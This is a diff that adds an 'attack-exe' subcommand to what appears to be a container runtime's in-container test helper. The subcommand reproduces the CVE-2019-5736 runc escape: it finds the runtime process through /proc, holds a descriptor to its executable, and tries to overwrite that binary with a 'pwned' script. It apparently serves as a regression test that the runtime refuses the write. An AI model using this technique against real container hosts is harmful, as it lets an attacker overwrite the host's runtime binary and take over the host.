@@ -471,6 +471,96 @@ static int do_ls(int argc, char **argv)
 }
 
 /* `sleep SECONDS`: fractional seconds; `inf` or `infinity` sleeps for ever. */
+/* A process other than us whose command line has NEEDLE as an argument. */
+static pid_t find_by_arg(const char *needle)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *de;
+	pid_t found = 0;
+
+	while (d != NULL && found == 0 && (de = readdir(d)) != NULL) {
+		char path[64], buf[4096];
+		pid_t pid = (pid_t) atoi(de->d_name);
+		ssize_t n;
+		int fd;
+
+		if (pid <= 0 || pid == getpid())
+			continue;
+		snprintf(path, sizeof(path), "/proc/%d/cmdline", (int) pid);
+		fd = open(path, O_RDONLY | O_CLOEXEC);
+		if (fd < 0)
+			continue;
+		n = read(fd, buf, sizeof(buf) - 1);
+		close(fd);
+		for (ssize_t i = 0; n > 0 && i < n; i += (ssize_t) strlen(buf + i) + 1) {
+			buf[n] = '\0';
+			if (strcmp(buf + i, needle) == 0)
+				found = pid;
+		}
+	}
+	if (d != NULL)
+		closedir(d);
+	return found;
+}
+
+/* attack-exe FIFO: CVE-2019-5736 from inside the container.  Makes FIFO
+ * and waits for a process that names it in its argv: husk, exec'd through
+ * a link to /proc/self/exe and blocked opening FIFO as its --log.  Keeps an
+ * O_PATH descriptor of that process's /proc/<pid>/exe (a process still
+ * joining the container is non-dumpable: EACCES, and the search goes on),
+ * lets it finish, reaps it (as pid 1 it is ours) and then tries to open
+ * the binary behind the descriptor for writing and overwrite it.  Prints
+ * "wrote" or "write refused: ERRNO". */
+static int do_attack_exe(int argc, char **argv)
+{
+	char path[64], buf[256];
+	int exefd = -1, rfd, eacces = 0;
+	pid_t victim = 0;
+
+	if (argc != 1)
+		return usage("FIFO");
+	if (mkfifo(argv[0], 0666) < 0)
+		return fail("mkfifo %s: %s", argv[0], strerror(errno));
+	for (int i = 0; i < 3000 && exefd < 0; i++) {
+		victim = find_by_arg(argv[0]);
+		if (victim > 0) {
+			snprintf(path, sizeof(path), "/proc/%d/exe", (int) victim);
+			exefd = open(path, O_PATH | O_CLOEXEC);
+			eacces += exefd < 0 && errno == EACCES;
+		}
+		if (exefd < 0)
+			usleep(10000);
+	}
+	if (exefd < 0)
+		return fail("no process with %s in its argv (%d refused)", argv[0], eacces);
+	rfd = open(argv[0], O_RDONLY | O_CLOEXEC);
+	while (rfd >= 0 && read(rfd, buf, sizeof(buf)) > 0)
+		;
+	while (kill(victim, 0) == 0) {
+		waitpid(victim, NULL, WNOHANG);
+		usleep(10000);
+	}
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", exefd);
+	for (int i = 0; i < 200; i++) {
+		static const char evil[] = "#!/bin/sh\necho pwned\n";
+		int w = open(path, O_WRONLY | O_CLOEXEC);
+
+		if (w >= 0) {
+			if (write(w, evil, sizeof(evil) - 1) == (ssize_t) sizeof(evil) - 1) {
+				printf("wrote\n");
+				return 0;
+			}
+			printf("write refused: %s\n", strerrorname_np(errno));
+			return 0;
+		}
+		if (errno != ETXTBSY)
+			break;
+		usleep(10000); /* another process still runs that binary */
+	}
+	printf("write refused: %s\n", strerrorname_np(errno));
+	return 0;
+}
+
 static int do_sleep(int argc, char **argv)
 {
 	struct timespec ts;
@@ -815,6 +905,7 @@ static const struct {
 	int (*fn)(int argc, char **argv);
 	const char *args;
 } commands[] = {
+	{ "attack-exe", do_attack_exe, "FIFO" },
 	{ "cat", do_cat, "FILE..." },
 	{ "caps", do_caps, "" },
 	{ "cwd", do_cwd, "" },
